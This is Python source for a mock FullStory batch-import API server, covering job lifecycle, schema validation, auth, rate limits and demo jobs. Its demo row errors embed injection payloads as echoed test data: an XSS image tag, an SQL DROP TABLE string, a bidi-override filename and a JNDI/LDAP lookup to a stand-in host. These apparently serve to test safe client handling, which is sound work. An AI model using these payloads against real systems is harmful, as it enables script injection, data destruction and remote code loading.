"""FullStory batch imports as the simulator speaks them (its swagger files, the seed's envelopes).

Jobs are a pure function of the simulator clock: PROCESSING for a while, then COMPLETED,
or FAILED with some rows imported (partial) or none. `…/errors` and `…/imports` answer
202 while a job processes, then list the job's own requests: each failed one with its
error, each imported one as FullStory echoes it (users with their FullStory `id`). The
seed's job-details example is served byte for byte.

Requests are checked against FullStory's published schemas (`spec/`), read by the
simulator itself: a batch that breaks them is a 400 in the seed's envelope.
"""

from __future__ import annotations

import hashlib
import json
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from ..seeds import SEED_DIR
from ..simulator.core import SimRequest, SimResponse, Simulator, json_response
from ..simulator.spec_check import load_spec, problems

SEED_FILE = "fullstory-batch-import-status.txt"
SEED_JOB_ID = "abd123="
SPEC_DIR = Path(__file__).parent / "spec"
# The request body of each batch create, as FullStory's swagger files define it.
REQUEST_SCHEMAS = {
    "events": ("events.swagger.json", "fullstory.v2.events.CreateBatchEventsImportJobRequest"),
    "users": ("users.swagger.json", "fullstory.v2.users.CreateBatchUserImportJobRequest"),
}
ERRORS_PAGE = 100
BATCH_LIMIT = 50_000
FAIL_MARKER = "fail"  # a request whose JSON contains it is one of the job's failed rows
ENVELOPES = {
    400: ("uid is required", "required_field"),
    401: ("access is unauthorized", "unauthorized"),
    403: ("insufficient permissions", "forbidden"),
    404: ("Requested resource does not exist", "resource_not_found"),
    429: ("Too many requests. Client has exceeded the rate limit for this endpoint.", "too_many_requests"),
    500: ("Server error was encountered", "server_error"),
}
# (message, what the failed request carried) cycled over a job's failed rows.
PLAN_ERROR = ("property 'plan' must be a string", {"properties": {"plan": 7}})


def seed_job_text() -> str:
    """The seed's job-details example, byte for byte as the document shows it."""
    text = (SEED_DIR / SEED_FILE).read_text()
    start = text.index('{\n"imports"')
    _, end = json.JSONDecoder().raw_decode(text[start:])
    return text[start : start + end]


def envelope(status: int, **headers: str) -> SimResponse:
    """The seed's `{"message", "code"}` for a status, word for word."""
    message, code = ENVELOPES[status]
    return json_response({"message": message, "code": code}, status, **headers)


def _invalid(message: str, code: str = "invalid_argument") -> SimResponse:
    return json_response({"message": message, "code": code}, 400)


def request_problems(kind: str, body: Any) -> list[str]:
    """What FullStory's published request schema refuses in a batch create body."""
    filename, definition = REQUEST_SCHEMAS[kind]
    doc = load_spec(SPEC_DIR / filename)
    return problems({"$ref": f"#/definitions/{definition}"}, body, doc)


def _iso(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z"


def _page(req: SimRequest, rows: Sequence[dict[str, Any]]) -> SimResponse:
    """`{results, total_records: "N" (a string), next_page_token?}`; tokens are offsets."""
    token = req.arg("page_token", "0") or "0"
    if not token.isdigit():
        return _invalid("page_token is not valid")
    start = int(token)
    body: dict[str, Any] = {"results": list(rows[start : start + ERRORS_PAGE]), "total_records": str(len(rows))}
    if start + ERRORS_PAGE < len(rows):
        body["next_page_token"] = str(start + ERRORS_PAGE)
    return json_response(body)


class _Rows(Sequence[dict[str, Any]]):
    """Rows made on demand from a job's requests: a demo job of 40,000 rows stays small."""

    def __init__(self, indices: Sequence[int], make: Callable[[int], dict[str, Any]]) -> None:
        self.indices, self.make = indices, make

    def __len__(self) -> int:
        return len(self.indices)

    def __getitem__(self, i: Any) -> Any:
        if isinstance(i, slice):
            return [self.make(n) for n in self.indices[i]]
        return self.make(self.indices[i])


def _merged(base: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
    out = dict(base)
    for key, value in extra.items():
        out[key] = {**out[key], **value} if isinstance(value, dict) and isinstance(out.get(key), dict) else value
    return out


def user_id(request: dict[str, Any]) -> str:
    """The FullStory-assigned id of an imported user: its own `id`, or one made from it."""
    if isinstance(request.get("id"), str) and request["id"]:
        return request["id"]
    return "fsu-" + hashlib.sha256(json.dumps(request, sort_keys=True).encode()).hexdigest()[:16]


@dataclass
class SimJob:
    """One batch job. Without `requests`, its `rows` requests are generated (the first
    `failed_rows` fail, carrying `errors`' extras); with them, `rows` is their count and
    the ones whose JSON holds FAIL_MARKER fail."""

    job_id: str
    kind: str  # events | users
    created_at: datetime
    rows: int = 0
    failed_rows: int = 0
    process_seconds: float = 60
    cycle_seconds: float | None = None  # the demo's jobs start over, so the demo stays alive
    errors: tuple[tuple[str, dict[str, Any]], ...] = (PLAN_ERROR,)
    requests: Sequence[dict[str, Any]] | None = None

    def __post_init__(self) -> None:
        if self.requests is None:
            self.requests = _Rows(range(self.rows), self._generated)
            self.failing: Sequence[int] = range(self.failed_rows)
        else:
            self.rows = len(self.requests)
            self.failing = [i for i, r in enumerate(self.requests) if FAIL_MARKER in json.dumps(r)]
            self.failed_rows = len(self.failing)

    def _generated(self, i: int) -> dict[str, Any]:
        base: dict[str, Any] = (
            {"name": "Signed Up", "properties": {"row": i + 1}} if self.kind == "events" else {"uid": f"user-{i + 1}"}
        )
        return _merged(base, self.errors[i % len(self.errors)][1]) if i < self.failed_rows else base

    def _created(self, now: datetime) -> datetime:
        if not self.cycle_seconds or now < self.created_at:
            return self.created_at
        laps = int((now - self.created_at).total_seconds() // self.cycle_seconds)
        return self.created_at + timedelta(seconds=laps * self.cycle_seconds)

    def processing(self, now: datetime) -> bool:
        return now < self._created(now) + timedelta(seconds=self.process_seconds)

    def body(self, now: datetime) -> dict[str, Any]:
        created = self._created(now)
        job: dict[str, Any] = {"id": self.job_id, "created": _iso(created)}
        if self.processing(now):
            job["status"] = "PROCESSING"
            return {"imports": 0, "errors": 0, "job": job}
        job["status"] = "FAILED" if self.failed_rows else "COMPLETED"
        job["finished"] = _iso(created + timedelta(seconds=self.process_seconds))
        return {"imports": self.rows - self.failed_rows, "errors": self.failed_rows, "job": job}

    def error_rows(self) -> Sequence[dict[str, Any]]:
        """`{message, code, event|user}`: each failed request as it was sent."""
        key = "user" if self.kind == "users" else "event"
        messages = {i: self.errors[n % len(self.errors)][0] for n, i in enumerate(self.failing)}
        assert self.requests is not None
        requests = self.requests
        return _Rows(
            self.failing,
            lambda i: {"message": messages[i], "code": "invalid_argument", key: requests[i]},
        )

    def import_rows(self) -> Sequence[dict[str, Any]]:
        """Each imported request as FullStory echoes it; a user gains its FullStory `id`."""
        assert self.requests is not None
        requests, failing = self.requests, set(self.failing)
        imported = range(self.failed_rows, self.rows) if isinstance(self.failing, range) else None
        indices = imported if imported is not None else [i for i in range(self.rows) if i not in failing]
        if self.kind == "users":
            return _Rows(indices, lambda i: {**requests[i], "id": user_id(requests[i])})
        return _Rows(indices, lambda i: requests[i])


def seed_job() -> SimJob:
    """The job behind the seed example (42 imported, 2 failed), for its errors and imports."""
    return SimJob(SEED_JOB_ID, "events", datetime(2019, 4, 18, 14, 36, 11, tzinfo=UTC), 44, 2, 3600)


@dataclass
class FullStoryWorld:
    keys: set[str] = field(default_factory=set)
    # Standard keys: enough to create and read jobs, not to read user data [F4].
    standard_keys: set[str] = field(default_factory=set)
    jobs: dict[str, SimJob] = field(default_factory=dict)
    rate_limit: int | None = None  # requests per `rate_window` s per key, then 429
    rate_window: float = 10.0
    retry_after: int = 10
    process_seconds: float = 45  # for jobs created through POST

    def __post_init__(self) -> None:
        self._lock = threading.Lock()
        self._hits: dict[str, list[float]] = {}
        self._idempotent: dict[tuple[str, str], tuple[str, SimResponse]] = {}
        self._seq = 0

    def install(self, sim: Simulator) -> None:
        self.sim = sim
        for prefix in ("/v2", "/v2beta"):
            for kind in ("events", "users"):
                base = f"{prefix}/{kind}/batch"
                sim.add_route("POST", base, lambda req, k=kind: self.create(req, k))
                sim.add_route("GET", base + r"/(?P<job_id>[^/]+)", self.get_job)
                sim.add_route("GET", base + r"/(?P<job_id>[^/]+)/errors", self.errors)
                sim.add_route(
                    "GET",
                    base + r"/(?P<job_id>[^/]+)/imports",
                    lambda req, job_id, k=kind: self.imports(req, job_id, k),
                )

    def _guard(self, req: SimRequest) -> SimResponse | None:
        header = req.headers.get("authorization", "")
        key = header[len("Basic ") :] if header.startswith("Basic ") else ""
        if key not in self.keys | self.standard_keys:
            return envelope(401)
        if self.rate_limit is not None:
            with self._lock:
                now = time.monotonic()
                hits = [t for t in self._hits.get(key, []) if now - t < self.rate_window] + [now]
                self._hits[key] = hits
                if len(hits) > self.rate_limit:
                    return envelope(429, **{"Retry-After": str(self.retry_after)})
        return None

    def _job(self, job_id: str) -> SimJob | None:
        job_id = unquote(job_id)  # ids are base64-like ("abd123="): clients send %3D
        return seed_job() if job_id == SEED_JOB_ID else self.jobs.get(job_id)

    def get_job(self, req: SimRequest, job_id: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        if unquote(job_id) == SEED_JOB_ID:
            return SimResponse(200, seed_job_text(), {"Content-Type": "application/json"})
        job = self._job(job_id)
        return json_response(job.body(self.sim.clock.now())) if job else envelope(404)

    def errors(self, req: SimRequest, job_id: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        if (job := self._job(job_id)) is None:
            return envelope(404)
        if job.processing(self.sim.clock.now()):
            return SimResponse(202, b"")
        return _page(req, job.error_rows())

    def imports(self, req: SimRequest, job_id: str, kind: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        header = req.headers.get("authorization", "")
        if kind == "users" and header[len("Basic ") :] in self.standard_keys - self.keys:
            return envelope(403)  # imported users are user data: Architect or Admin only
        if (job := self._job(job_id)) is None:
            return envelope(404)
        if job.processing(self.sim.clock.now()):
            return SimResponse(202, b"")
        return _page(req, job.import_rows())

    def create(self, req: SimRequest, kind: str) -> SimResponse:
        if denied := self._guard(req):
            return denied
        try:
            body = req.json()
        except ValueError:
            return _invalid("the request body is not valid JSON")
        if not isinstance(body, dict):
            return _invalid("the request body must be a JSON object")
        if found := request_problems(kind, body):
            # FullStory's own words for a missing field: "uid is required" / required_field.
            message = found[0].removeprefix("body.")
            return _invalid(message, "required_field" if message.endswith(" is required") else "invalid_argument")
        requests = body["requests"]
        if len(requests) > BATCH_LIMIT:  # FullStory's documented maximum; the spec sets no minimum
            return _invalid(f"requests must hold at most {BATCH_LIMIT} objects")
        key = req.headers.get("idempotency-key", "")
        digest = hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()
        now = self.sim.clock.now()
        with self._lock:  # check, create and remember in one step: concurrent retries see one job
            if key and (kind, key) in self._idempotent:
                seen, answer = self._idempotent[(kind, key)]
                if seen != digest:  # FullStory "errors"; its spec lists 400 for a refused request
                    return _invalid("Idempotency-Key was already used with a different request body")
                return answer
            self._seq += 1
            job_id = f"fs-{kind[0]}-{self._seq:05d}"
            self.jobs[job_id] = SimJob(job_id, kind, now, process_seconds=self.process_seconds, requests=requests)
            answer = json_response({"job": {"id": job_id, "status": "PROCESSING", "created": _iso(now)}})
            if key:
                self._idempotent[(kind, key)] = (digest, answer)
        return answer


DEMO_KEY = "demo-fullstory-key"
# What FullStory echoes back is whatever customers sent: markup, quotes, bidi controls.
DEMO_ROW_ERRORS: tuple[tuple[str, dict[str, Any]], ...] = (
    PLAN_ERROR,
    (
        'property name "<img src=x onerror=alert(1)>" is not valid: use letters, digits and underscores',
        {"properties": {"<img src=x onerror=alert(1)>": "x"}},
    ),
    (
        "email is not a valid email address",
        {"email": "ada at example dot com"},
    ),
    (
        "display_name must not contain control characters (U+202E at position 30)",
        {"display_name": "Robert'); DROP TABLE users;-- \u202egnp.exe"},
    ),
    (
        "property 'notes_str' value is 8,300 bytes; at most 8,192 are allowed",
        {"properties": {"notes_str": "{{7*7}} ${jndi:ldap://x.example/a} " + "x" * 8265}},
    ),
)


def install_demo(sim: Simulator, origin: datetime) -> FullStoryWorld:
    """FullStory's part of `make run`'s demo: live, completed, partial and expired jobs."""
    world = FullStoryWorld(keys={DEMO_KEY})
    world.jobs.update(
        {
            # finishes ~2.5 min in, then starts over every 4 min: there is always a live one
            "fs-demo-live": SimJob("fs-demo-live", "events", origin, 40_000, process_seconds=150, cycle_seconds=240),
            "fs-demo-done": SimJob("fs-demo-done", "events", origin - timedelta(hours=3), 12_000, process_seconds=90),
            "fs-demo-partial": SimJob(
                "fs-demo-partial", "users", origin - timedelta(hours=1), 950, 7, 120, errors=DEMO_ROW_ERRORS
            ),
        }
    )
    # "fs-demo-expired" is tracked by the demo config but unknown here: a 404, i.e. expired.
    world.install(sim)
    return world
